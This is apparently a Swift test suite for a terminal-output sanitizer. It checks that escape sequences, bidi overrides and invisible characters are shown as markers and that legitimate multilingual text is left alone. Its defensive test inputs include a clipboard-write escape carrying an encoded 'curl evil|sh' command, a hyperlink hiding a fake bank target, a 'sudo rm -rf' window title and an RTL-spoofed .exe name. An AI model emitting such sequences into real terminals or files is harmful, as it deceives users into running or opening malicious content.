import Testing

@testable import FlagdeskCore

struct TerminalSanitizerTests {
    struct Sample: Sendable, CustomTestStringConvertible {
        let name: String
        let input: String
        let expected: String
        var testDescription: String { name }
    }

    static let hostile: [Sample] = [
        Sample(
            name: "OSC 52 clipboard write", input: "look\u{1B}]52;c;Y3VybCBldmlsfHNo\u{07}here",
            expected: "look^[]52;c;Y3VybCBldmlsfHNo^Ghere"),
        Sample(
            name: "OSC 8 hyperlink hiding its target",
            input: "\u{1B}]8;;https://evil.example/\u{1B}\\bank.example\u{1B}]8;;\u{1B}\\",
            expected: "^[]8;;https://evil.example/^[\\bank.example^[]8;;^[\\"),
        Sample(name: "clear screen", input: "\u{1B}[2J\u{1B}[H", expected: "^[[2J^[[H"),
        Sample(name: "window title set", input: "\u{1B}]0;sudo rm -rf\u{07}", expected: "^[]0;sudo rm -rf^G"),
        Sample(name: "8-bit CSI", input: "\u{9B}31mred", expected: "<U+009B>31mred"),
        Sample(name: "8-bit OSC and ST", input: "\u{9D}0;t\u{9C}", expected: "<U+009D>0;t<U+009C>"),
        Sample(name: "DCS", input: "\u{1B}P1$r\u{1B}\\", expected: "^[P1$r^[\\"),
        Sample(name: "RTL override file name", input: "invoice\u{202E}fdp.exe", expected: "invoice<U+202E>fdp.exe"),
        Sample(
            name: "isolates and marks", input: "\u{2067}a\u{2069}\u{200F}\u{061C}",
            expected: "<U+2067>a<U+2069><U+200F><U+061C>"),
        Sample(name: "NUL", input: "a\u{0}b", expected: "a^@b"),
        Sample(name: "BEL", input: "ding\u{07}", expected: "ding^G"),
        Sample(name: "carriage return overwriting the line", input: "safe.pdf\rEVIL", expected: "safe.pdf^MEVIL"),
        Sample(name: "DEL and backspace", input: "ab\u{7F}\u{08}", expected: "ab^?^H"),
        Sample(name: "newline and tab on one line", input: "a\nb\tc", expected: "a^Jb^Ic"),
        Sample(name: "line and paragraph separators", input: "a\u{2028}b\u{2029}", expected: "a<U+2028>b<U+2029>"),
        Sample(name: "byte order mark", input: "\u{FEFF}x", expected: "<U+FEFF>x"),
        Sample(name: "tag characters smuggling ASCII", input: "hi\u{E0041}\u{E0042}", expected: "hi<U+E0041><U+E0042>"),
        Sample(name: "word joiner", input: "a\u{2060}b", expected: "a<U+2060>b"),
    ]

    @Test(arguments: hostile)
    func hostileSamplesAreMadeVisible(sample: Sample) {
        let output = TerminalSanitizer.sanitize(sample.input)
        #expect(output == sample.expected)
        #expect(!output.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) })
    }

    @Test func multiLineKeepsNewlinesAndTabsButShowsCarriageReturns() {
        let input = "line 1\r\n\tline 2\n\u{1B}[31mred\u{1B}[0m"
        #expect(TerminalSanitizer.sanitize(input, mode: .multiLine) == "line 1^M\n\tline 2\n^[[31mred^[[0m")
    }

    static let legitimate = [
        "plain ASCII, with punctuation: ~!@#$%^&*()", "café", "cafe\u{301}", "Ελληνικά", "東京都庁",
        "한국어", "\u{1100}\u{1161}\u{11A8}", "مرحبا بالعالم", "שלום", "ｶﾞｷﾞ", "👨‍👩‍👧‍👦", "👍🏽", "🇫🇷🇩🇪",
        "1️⃣", "❤️", "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}", "می\u{200C}خواهم",
        "Donau\u{00AD}dampf\u{00AD}schiff", "ภาษา\u{200B}ไทย", "a\u{0301}\u{0302}\u{0323}", "कि",
    ]

    @Test(arguments: legitimate)
    func legitimateTextPassesUnchanged(text: String) {
        #expect(TerminalSanitizer.sanitize(text) == text)
        #expect(TerminalSanitizer.sanitize(text, mode: .multiLine) == text)
    }

    @Test func loneCombiningMarksKeepTheirOwnBase() {
        #expect(TerminalSanitizer.sanitize("\u{301}abc") == "\u{25CC}\u{301}abc")
        #expect(TerminalSanitizer.sanitize("\u{1}\u{301}x") == "^A\u{25CC}\u{301}x")
        #expect(TerminalSanitizer.sanitize("\u{1161}\u{11A8}") == "<U+1161><U+11A8>")  // lone jamo
        #expect(TerminalSanitizer.sanitize("\u{1100}\u{1161}\u{11A8}") == "\u{1100}\u{1161}\u{11A8}")
        // The mark is kept, and now takes a cell of its own instead of altering the one before.
        #expect(DisplayWidth.width(of: TerminalSanitizer.sanitize("\u{301}")) == 1)
    }

    @Test func markerSchemeNamesEachScalar() {
        #expect(TerminalSanitizer.marker(for: "\u{0}") == "^@")
        #expect(TerminalSanitizer.marker(for: "\u{1B}") == "^[")
        #expect(TerminalSanitizer.marker(for: "\u{1F}") == "^_")
        #expect(TerminalSanitizer.marker(for: "\u{7F}") == "^?")
        #expect(TerminalSanitizer.marker(for: "\u{9B}") == "<U+009B>")
        #expect(TerminalSanitizer.marker(for: "\u{E0041}") == "<U+E0041>")
    }

    @Test func urlVariantRevealsZeroWidthAndSpaceLikeCharacters() {
        #expect(TerminalSanitizer.sanitizeURL("https://pay\u{200B}pal.example") == "https://pay<U+200B>pal.example")
        #expect(TerminalSanitizer.sanitizeURL("ex\u{00AD}ample.com") == "ex<U+00AD>ample.com")
        #expect(TerminalSanitizer.sanitizeURL("a\u{200D}b\u{200C}c") == "a<U+200D>b<U+200C>c")
        #expect(TerminalSanitizer.sanitizeURL("bank\u{00A0}login") == "bank<U+00A0>login")
        #expect(TerminalSanitizer.sanitizeURL("x\u{3164}y") == "x<U+3164>y")  // Hangul filler
        #expect(TerminalSanitizer.sanitizeURL("a\nb") == "a^Jb")
        // Letters of any script stay: the host is shown as it is, only invisibles are marked.
        #expect(TerminalSanitizer.sanitizeURL("https://例え.jp/bücher") == "https://例え.jp/bücher")
        // The same text in prose keeps joiners and zero-width spaces.
        #expect(TerminalSanitizer.sanitize("pay\u{200B}pal") == "pay\u{200B}pal")
    }

    @Test func printableASCIIIsReturnedAsIs() {
        let text = String(repeating: "The quick brown fox. ", count: 50)
        #expect(TerminalSanitizer.sanitize(text) == text)
        #expect(TerminalSanitizer.sanitizeURL(text) == text)
    }
}
